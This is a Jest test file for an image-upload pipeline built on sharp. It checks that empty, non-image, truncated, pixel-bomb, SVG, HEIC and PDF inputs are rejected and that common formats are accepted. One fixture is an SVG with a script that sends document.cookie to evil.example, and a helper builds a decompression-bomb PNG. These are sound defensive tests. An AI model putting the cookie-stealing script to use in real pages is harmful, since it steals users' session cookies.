import sharp from 'sharp';
import { ImageRejectedError } from '../image-rejected-error';
import { resolveImagesConfig } from '../images-config';
import { inspectImage } from '../inspect-image';
import { renderRenditions } from '../render-renditions';
import { sniffFormat } from '../sniff-format';
import { noisyJpeg, pixelBombPng } from './helpers/make-images';

jest.setTimeout(30_000);

const limits = resolveImagesConfig();

async function rejection(input: Buffer): Promise<{ code: string; message: string }> {
  try {
    await renderRenditions(input, { presets: ['instagram-square'] });
  } catch (error) {
    if (error instanceof ImageRejectedError) return { code: error.code, message: error.message };
    throw error;
  }
  throw new Error('expected the image to be rejected');
}

describe('bad input is rejected with ImageRejectedError', () => {
  it('a zero-byte file', async () => {
    expect(await rejection(Buffer.alloc(0))).toEqual({ code: 'empty-file', message: 'empty file' });
  });

  it('a text file, whatever its name', async () => {
    expect(await rejection(Buffer.from('Patient list\nJ. Smith, Room 412\n'))).toEqual({ code: 'not-an-image', message: 'not an image' });
  });

  it('an SVG carrying a script, by content', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="1200">' +
        '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="10" height="10"/></svg>'
    );
    expect(await rejection(svg)).toEqual({ code: 'unsupported-format', message: 'unsupported format svg' });
  });

  it('a pixel bomb: 30,000×30,000 PNG, before decoding it', async () => {
    const bomb = pixelBombPng();
    expect(bomb.byteLength).toBeLessThan(1_000_000);
    expect((await sharp(bomb, { limitInputPixels: false }).metadata()).width).toBe(30_000);
    const before = process.memoryUsage().rss;
    expect(await rejection(bomb)).toEqual({ code: 'too-large', message: 'image too large: 900 megapixels, limit 100' });
    expect(process.memoryUsage().rss - before).toBeLessThan(200_000_000);
  });

  it('a pixel limit from config', async () => {
    const small = resolveImagesConfig({ limitInputPixels: 1_000_000 });
    const input = await noisyJpeg(2000, 1000);
    await expect(inspectImage(input, small)).rejects.toMatchObject({ code: 'too-large', message: 'image too large: 2 megapixels, limit 1' });
  });

  it('a truncated JPEG, when its pixels are decoded', async () => {
    const jpeg = await noisyJpeg(1600, 1200);
    const truncated = jpeg.subarray(0, Math.floor(jpeg.length / 2));
    expect(await rejection(truncated)).toEqual({ code: 'corrupt', message: 'corrupt or truncated' });
  });

  it('a truncated JPEG under failOn truncated too', async () => {
    const jpeg = await noisyJpeg(1600, 1200);
    const config = resolveImagesConfig({ failOn: 'truncated' });
    const attempt = renderRenditions(jpeg.subarray(0, jpeg.length - 5000), { config, presets: ['instagram-square'] });
    await expect(attempt).rejects.toMatchObject({ code: 'corrupt' });
  });

  it('a JPEG header with nothing after it', async () => {
    const jpeg = await noisyJpeg(64, 64);
    expect((await rejection(jpeg.subarray(0, 20))).code).toBe('corrupt');
  });

  it('HEIC and PDF by name in the message', async () => {
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)]);
    expect(await rejection(heic)).toEqual({ code: 'unsupported-format', message: 'unsupported format heic' });
    expect(await rejection(Buffer.from('%PDF-1.7\n%âãÏÓ\n'))).toEqual({ code: 'unsupported-format', message: 'unsupported format pdf' });
  });
});

describe('accepted formats', () => {
  const base = () => sharp({ create: { width: 120, height: 80, channels: 3, background: '#3366aa' } });

  it.each([
    ['jpeg', () => base().jpeg().toBuffer()],
    ['png', () => base().png().toBuffer()],
    ['webp', () => base().webp().toBuffer()],
    ['avif', () => base().avif().toBuffer()],
    ['tiff', () => base().tiff().toBuffer()],
    ['gif', () => base().gif().toBuffer()],
  ] as const)('%s passes failOn warning and decodes', async (format, make) => {
    const input = await make();
    expect(sniffFormat(input)).toEqual({ kind: 'supported', format });
    expect(await inspectImage(input, limits)).toMatchObject({ format, width: 120, height: 80 });
    const { renditions } = await renderRenditions(input, { presets: ['instagram-square'] });
    expect([renditions[0]!.width, renditions[0]!.height]).toEqual([320, 320]);
  });

  it('an animated GIF gives its first frame', async () => {
    const frames = await Promise.all(
      ['#ff0000', '#0000ff'].map((background) => sharp({ create: { width: 400, height: 400, channels: 3, background } }).raw().toBuffer())
    );
    const gif = await sharp(Buffer.concat(frames), { raw: { width: 400, height: 800, channels: 3, pageHeight: 400 } })
      .gif({ loop: 0, delay: [100, 100] })
      .toBuffer();
    expect((await sharp(gif).metadata()).pages).toBe(2);
    const { renditions } = await renderRenditions(gif, { presets: ['instagram-square'] });
    const { data, info } = await sharp(renditions[0]!.data).raw().toBuffer({ resolveWithObject: true });
    expect([info.width, info.height]).toEqual([400, 400]);
    expect(data[0]).toBeGreaterThan(200);
    expect(data[2]).toBeLessThan(60);
  });

  it('a JPEG with trailing bytes after its end marker', async () => {
    const jpeg = Buffer.concat([await noisyJpeg(400, 400), Buffer.from('trailing bytes from a careless uploader')]);
    const { renditions } = await renderRenditions(jpeg, { presets: ['instagram-square'] });
    expect(renditions).toHaveLength(1);
  });
});
